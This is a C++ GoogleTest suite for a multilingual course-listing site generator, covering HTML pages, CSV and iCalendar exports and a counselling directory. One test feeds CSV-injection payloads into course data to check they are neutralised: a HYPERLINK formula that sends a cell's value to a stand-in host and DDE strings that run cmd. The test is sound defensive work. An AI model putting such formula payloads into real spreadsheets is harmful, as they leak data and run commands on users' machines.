// The course overview, month pages, exports and counselling directory, read back as their users
// (and their users' spreadsheet and calendar programs) read them.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <libical/ical.h>

#include "test_site.h"

namespace lotse::test {
namespace {

namespace fs = std::filesystem;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::Not;

std::string course(const std::string& type, const std::string& start, const std::string& end,
                   const std::string& extra = "", const std::string& level = "{from: A1, to: B1}") {
    return "type: " + type + "\nprovider: vhs\nlevel: " + level + "\nstart: " + start + "\nend: " + end + "\n" +
           "checked: 2026-11-10\n" + extra;
}

class CourseSite : public ::testing::Test {
protected:
    void SetUp() override {
        site.file("content/site.yaml",
                  "title: {de: \"Bildung Teststadt\", en: \"Education Teststadt\", ar: \"التعليم\"}\n"
                  "source_language: de\nlanguages: [de, en, ar]\nbase_url: https://bildung.teststadt.example/\n");
        site.file("content/courses/abend.yaml",
                  course("integration", "2027-02-01", "2027-08-20",
                         "title: {de: \"Integrationskurs am Abend\", en: \"Evening integration course\"}\n"
                         "schedule:\n  - {days: [mon, tue, wed, thu], from: \"17:30\", to: \"20:45\"}\n"
                         "lessons: 700\nseats: open\nchildcare: false\n"
                         "registration: {phone: \"+49 000 12\", email: kurse@vhs.example, deadline: 2027-01-25}\n"));
        site.file("content/courses/frauen.yaml",
                  course("integration-women", "2027-01-11", "2027-12-17",
                         "title: \"Frauenkurs, mit \\\"Kinderbetreuung\\\"\"\n"
                         "schedule:\n  - {days: [mon, tue, wed, thu, fri], from: \"09:00\", to: \"12:15\"}\n"
                         "seats: full\nchildcare: true\nlocation: {street: \"Ring 2\", postcode: \"00110\", city: "
                         "\"Teststadt\", district: \"Nord\"}\n"));
        site.file("content/courses/beruf.yaml",
                  course("job-language", "2027-01-25", "2027-06-30",
                         "schedule:\n  - {days: [sat], from: \"13:00\", to: \"16:00\"}\nseats: few\n",
                         "{from: B1, to: B2}"));
        site.file("content/courses/vorbei.yaml", course("support", "2026-01-12", "2026-10-30"));
        site.file("content/contacts/mbe.yaml",
                  "name: {de: \"Migrationsberatung\", en: \"Migration counselling\"}\norganisation: vhs\n"
                  "topics: [work]\nlife_phases: [work-and-career]\nlanguages: [ar, ti]\n"
                  "hours:\n  - {days: [mon, tue, wed], from: \"09:00\", to: \"12:00\"}\n"
                  "  - {days: [thu], from: \"13:00\", to: \"17:00\", note: {de: \"nur mit Termin\", en: \"by appointment\"}}\n"
                  "checked: 2026-10-20\n");
        ASSERT_EQ(site.build(), 0) << site.err();
    }
    TestSite site;
};

TEST_F(CourseSite, OverviewListsRunningCoursesByStartMonthAndDate) {
    const std::string page = site.page("de/courses/index.html");
    EXPECT_THAT(page, Not(HasSubstr("courses/vorbei/")));  // ended courses never appear
    const auto january = page.find("<h2 id=\"month-2027-01\"><a href=\"../courses/2027-01/index.html\">Januar 2027</a></h2>");
    const auto february = page.find("<h2 id=\"month-2027-02\"><a href=\"../courses/2027-02/index.html\">Februar 2027</a></h2>");
    ASSERT_NE(january, std::string::npos) << page;
    ASSERT_NE(february, std::string::npos);
    const auto frauen = page.find("href=\"../courses/frauen.html\"");
    const auto beruf = page.find("href=\"../courses/beruf.html\"");
    const auto abend = page.find("href=\"../courses/abend.html\"");
    EXPECT_LT(january, frauen);
    EXPECT_LT(frauen, beruf);  // 11 January before 25 January
    EXPECT_LT(beruf, february);
    EXPECT_LT(february, abend);
}

TEST_F(CourseSite, RowsShowWhatANewcomerNeeds) {
    const std::string page = site.page("de/courses/index.html");
    EXPECT_THAT(page, HasSubstr("<span class=\"c-type\">Berufssprachkurs</span>"));
    EXPECT_THAT(page, HasSubstr("<bdi>B1–B2</bdi>"));
    EXPECT_THAT(page, HasSubstr("<span class=\"slot\">Mo–Do <bdi>17:30–20:45 Uhr</bdi></span>"));
    EXPECT_THAT(page, HasSubstr("700 Unterrichtseinheiten · Vor Ort"));
    EXPECT_THAT(page, HasSubstr("<span class=\"seats seats-full\">Ausgebucht</span><br>Kinderbetreuung wird angeboten"));
    EXPECT_THAT(page, HasSubstr("Anmeldung bis 25. Jan. 2027. <a href=\"tel:+4900012\" dir=\"ltr\">+49 000 12</a>"));
    const std::string ar = site.page("ar/courses/index.html");
    EXPECT_THAT(ar, HasSubstr("<span class=\"slot\">السبت <bdi>"));  // weekday in Arabic
}

TEST_F(CourseSite, FiltersAreMarkedUpAndTheListIsCompleteWithoutScript) {
    const std::string page = site.page("de/courses/index.html");
    // Without JavaScript the form stays hidden and every course is in the page, none hidden.
    EXPECT_THAT(page, HasSubstr("<form class=\"filters\" data-filter=\"course-list\" hidden>"));
    EXPECT_THAT(page, HasSubstr("<tr class=\"course-row\" data-filter-item=\"frauen\""));
    EXPECT_THAT(page, Not(HasSubstr("<tr class=\"course-row\" hidden")));
    EXPECT_THAT(page, HasSubstr("<select id=\"filter-type\" name=\"type\"><option value=\"\">Alle</option>"
                                "<option value=\"integration\">Integrationskurs</option>"
                                "<option value=\"integration-women\">Frauenintegrationskurs</option>"
                                "<option value=\"job-language\">Berufssprachkurs</option></select>"));
    EXPECT_THAT(page, HasSubstr("<option value=\"morning\">Vormittag</option><option value=\"afternoon\">Nachmittag</option>"
                                "<option value=\"evening\">Abend</option>"));
    EXPECT_THAT(page, HasSubstr("data-filter-item=\"beruf\" data-type=\"|job-language|\" data-level=\"|B1|B2|\" "
                                "data-district=\"|Mitte|\" data-time=\"|afternoon|\" data-childcare=\"|no|\" "
                                "data-seats=\"|available|\""));
    EXPECT_THAT(page, HasSubstr("data-district=\"|Nord|\""));
    EXPECT_THAT(page, HasSubstr("<script src=\"../../assets/filter.js\" defer></script>"));
    EXPECT_TRUE(fs::exists(site.out() / "assets/filter.js"));
}

TEST_F(CourseSite, FilterStatusKnowsEveryPluralFormOfThePageLanguage) {
    const std::string ar = site.page("ar/courses/index.html");
    const auto at = ar.find("data-plural=\"");
    ASSERT_NE(at, std::string::npos);
    const std::string json = ar.substr(at, ar.find("\"></p>", at) - at);
    for (const char* form : {"zero", "one", "two", "few", "many", "other", "0"})
        EXPECT_THAT(json, HasSubstr(std::string("&quot;") + form + "&quot;:")) << json;
}

TEST_F(CourseSite, MonthPagesHoldTheCoursesStartingThatMonth) {
    const std::string page = site.page("de/courses/2027-01/index.html");
    EXPECT_THAT(page, HasSubstr("<title>Deutschkurse mit Beginn im Januar 2027 · Bildung Teststadt</title>"));
    EXPECT_THAT(page, HasSubstr("href=\"../../courses/frauen.html\""));
    EXPECT_THAT(page, HasSubstr("href=\"../../courses/beruf.html\""));
    EXPECT_THAT(page, Not(HasSubstr("courses/abend.html")));
    EXPECT_THAT(page, HasSubstr("<a href=\"../../courses/index.html\">Alle Monate</a>"));
    EXPECT_TRUE(fs::exists(site.out() / "en/courses/2027-02/index.html"));
    EXPECT_FALSE(fs::exists(site.out() / "de/courses/2026-01/index.html"));
}

// RFC 4180 read back field by field (quoted fields may hold commas, quotes and line breaks).
std::vector<std::vector<std::string>> parse_csv(const std::string& text) {
    std::vector<std::vector<std::string>> rows(1);
    std::string cell;
    bool quoted = false;
    for (std::size_t i = 0; i < text.size(); ++i) {
        const char c = text[i];
        if (quoted) {
            if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') cell += '"', ++i;
            else if (c == '"') quoted = false;
            else cell += c;
        } else if (c == '"') {
            quoted = true;
        } else if (c == ',') {
            rows.back().push_back(cell), cell.clear();
        } else if (c == '\r' && i + 1 < text.size() && text[i + 1] == '\n') {
            rows.back().push_back(cell), cell.clear(), rows.emplace_back(), ++i;
        } else {
            cell += c;
        }
    }
    if (rows.back().empty()) rows.pop_back();
    return rows;
}

TEST_F(CourseSite, CsvHasABomOneRowPerCourseAndIsoDates) {
    const std::string csv = site.page("courses.csv");
    ASSERT_EQ(csv.substr(0, 3), "\xEF\xBB\xBF");
    const auto rows = parse_csv(csv.substr(3));
    ASSERT_EQ(rows.size(), 4u);  // header and three running courses
    EXPECT_EQ(rows[0][0], "id");
    EXPECT_EQ(rows[0][5], "start");
    for (const auto& r : rows) EXPECT_EQ(r.size(), rows[0].size());
    EXPECT_THAT(rows[1], ElementsAre("frauen", "Frauenkurs, mit \"Kinderbetreuung\"", "Frauenintegrationskurs", "A1", "B1",
                                     "2027-01-11", "2027-12-17", "Mo–Fr 09:00–12:15 Uhr", "", "Vor Ort", "Nord",
                                     "Ring 2, 00110 Teststadt", "Volkshochschule Teststadt", "yes", "full", "", "", "",
                                     "", "", "https://bildung.teststadt.example/de/courses/frauen.html"));
    EXPECT_EQ(rows[2][0], "beruf");
    EXPECT_EQ(rows[3][0], "abend");
    EXPECT_EQ(rows[3][16], "2027-01-25");
    EXPECT_THAT(site.page("de/courses/index.html"), HasSubstr("<a href=\"../../courses.csv\">"));
}

// A cell that a spreadsheet program would read as a formula (=, +, -, @, tab, carriage return first)
// starts with a quote that the program hides, and stays quoted (OWASP: CSV injection).
TEST(CoursesCsv, CellsThatWouldRunAsFormulasAreNeutralised) {
    TestSite site;
    site.file("content/courses/formel.yaml",
              course("integration", "2027-01-11", "2027-07-16",
                     "title: '=HYPERLINK(\"https://evil.example?x=\"&A1,\"Klick\")'\n"
                     "location: {street: \"@SUM(1+1)*cmd|' /C calc'!A0\", postcode: \"00100\", city: Teststadt, "
                     "district: \"-2+3+cmd|' /C calc'!A0\"}\n"
                     "registration: {phone: \"+49 000 1234-56\", email: kurse@vhs.example}\n"));
    site.file("content/courses/tab.yaml", course("literacy", "2027-02-01", "2027-07-16", "title: \"\\tTab\"\n"));
    site.file("content/courses/cr.yaml", course("support", "2027-03-01", "2027-07-16", "title: \"\\rCR\"\n"));
    ASSERT_EQ(site.build(), 0) << site.err();
    const std::string csv = site.page("courses.csv");
    EXPECT_THAT(csv, HasSubstr("\r\nformel,\"'=HYPERLINK(\"\"https://evil.example?x=\"\"&A1,\"\"Klick\"\")\","));
    EXPECT_THAT(csv, HasSubstr(",\"'-2+3+cmd|' /C calc'!A0\",\"'@SUM(1+1)*cmd|' /C calc'!A0, 00100 Teststadt\","));
    EXPECT_THAT(csv, HasSubstr(",\"'+49 000 1234-56\",kurse@vhs.example,"));
    EXPECT_THAT(csv, HasSubstr("\r\ntab,\"'\tTab\",Integrationskurs mit Alphabetisierung,"));
    EXPECT_THAT(csv, HasSubstr("\r\ncr,\"'\rCR\",Förderkurs,"));
    const auto rows = parse_csv(csv.substr(3));
    ASSERT_EQ(rows.size(), 4u);
    EXPECT_EQ(rows[1][1], "'=HYPERLINK(\"https://evil.example?x=\"&A1,\"Klick\")");
    EXPECT_EQ(rows[1][10], "'-2+3+cmd|' /C calc'!A0");
    EXPECT_EQ(rows[1][17], "'+49 000 1234-56");
}

TEST_F(CourseSite, CalendarParsesBackWithLibical) {
    const std::string ics = site.page("courses.ics");
    icalcomponent* calendar = icalparser_parse_string(ics.c_str());
    ASSERT_NE(calendar, nullptr);
    std::vector<std::string> uids, summaries, starts, ends;
    for (icalcomponent* e = icalcomponent_get_first_component(calendar, ICAL_VEVENT_COMPONENT); e;
         e = icalcomponent_get_next_component(calendar, ICAL_VEVENT_COMPONENT)) {
        uids.push_back(icalcomponent_get_uid(e));
        summaries.push_back(icalcomponent_get_summary(e));
        starts.push_back(icaltime_as_ical_string(icalcomponent_get_dtstart(e)));
        ends.push_back(icaltime_as_ical_string(icalcomponent_get_dtend(e)));
    }
    icalcomponent_free(calendar);
    EXPECT_THAT(uids, ElementsAre("frauen@courses.bildung.teststadt.example", "beruf@courses.bildung.teststadt.example",
                                  "abend@courses.bildung.teststadt.example"));
    EXPECT_THAT(summaries, ElementsAre("Frauenkurs, mit \"Kinderbetreuung\"", "Berufssprachkurs B1–B2",
                                       "Integrationskurs am Abend"));
    EXPECT_THAT(starts, ElementsAre("20270111", "20270125", "20270201"));
    EXPECT_THAT(ends, ElementsAre("20271218", "20270701", "20270821"));  // the day after the last day
}

TEST_F(CourseSite, CounsellingDirectoryHasFiltersAndLocalisedHours) {
    const std::string page = site.page("de/counselling/index.html");
    EXPECT_THAT(page, HasSubstr("<form class=\"filters\" data-filter=\"counselling-list\" hidden>"));
    EXPECT_THAT(page, HasSubstr("<option value=\"ar\">Arabisch</option><option value=\"ti\">Tigrinya</option>"));
    EXPECT_THAT(page, HasSubstr("data-filter-item=\"mbe\" data-topic=\"|work|\" data-life-phase=\"|work-and-career|\" "
                                "data-language=\"|ar|ti|\""));
    const std::string contact = site.page("de/contacts/mbe.html");
    EXPECT_THAT(contact, HasSubstr("<tr><th scope=\"row\">Mo–Mi</th><td><bdi>09:00–12:00 Uhr</bdi></td><td></td></tr>"));
    EXPECT_THAT(contact, HasSubstr("<tr><th scope=\"row\">Do</th><td><bdi>13:00–17:00 Uhr</bdi></td><td>nur mit Termin</td></tr>"));
    const std::string en = site.page("en/contacts/mbe.html");
    EXPECT_THAT(en, HasSubstr("<tr><th scope=\"row\">Mon–Wed</th><td><bdi>9:00\u202fAM\u2009–\u200912:00\u202fPM</bdi></td>"));
    const std::string ar = site.page("ar/contacts/mbe.html");
    EXPECT_THAT(ar, HasSubstr("<th scope=\"row\">الاثنين–الأربعاء</th>"));
}

}  // namespace
}  // namespace lotse::test
